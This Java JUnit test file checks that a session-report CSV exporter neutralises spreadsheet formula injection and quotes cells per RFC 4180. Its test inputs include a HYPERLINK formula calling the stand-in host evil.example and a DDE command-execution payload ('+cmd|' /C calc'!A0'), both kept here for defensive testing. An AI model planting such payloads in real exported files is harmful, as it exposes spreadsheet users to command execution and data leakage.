package io.peerpulse.export.csv;

import io.peerpulse.testkit.SessionExporterContract;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Every text cell stays data in a spreadsheet, and reads back as written apart from the stated apostrophe. */
class CellRuleTest {

    @ParameterizedTest
    @CsvSource(delimiter = '#', quoteCharacter = '`', value = {
            "=HYPERLINK(\"http://evil.example/?x\",\"open me\")#`\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"open me\"\")\"`",
            "+cmd|' /C calc'!A0#'+cmd|' /C calc'!A0",
            "-2+3#'-2+3",
            "@SUM(A1)#'@SUM(A1)",
            "-5#-5",
            "+0.25#+0.25",
            "exp-42#exp-42",
            "a,b#`\"a,b\"`",
            "` padded`#`\" padded\"`"
    })
    void formulaCellsGetAnApostropheAndQuotingFollowsRfc4180(String value, String cell) {
        assertThat(SessionReportCsv.cell(value)).isEqualTo(cell);
    }

    @Test
    void tabAndCarriageReturnLeadsAreNeutralisedAndNullIsEmpty() {
        assertThat(SessionReportCsv.cell("\tx")).isEqualTo("'\tx");
        assertThat(SessionReportCsv.cell("\rx")).isEqualTo("\"'\rx\"");
        assertThat(SessionReportCsv.cell(null)).isEmpty();
    }

    @Test
    void theExportersRowsCarryNeutralisedIds() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        SessionReportCsv.write(SessionExporterContract.fullReport("=HYPERLINK(\"http://evil.example/?x\",\"open me\")"),
                out);
        List<List<String>> rows = Csv.parse(out.toString(StandardCharsets.UTF_8));
        assertThat(rows).hasSizeGreaterThan(1);
        assertThat(rows.subList(1, rows.size())).allSatisfy(row ->
                assertThat(row.get(0)).isEqualTo("'=HYPERLINK(\"http://evil.example/?x\",\"open me\")"));
    }
}
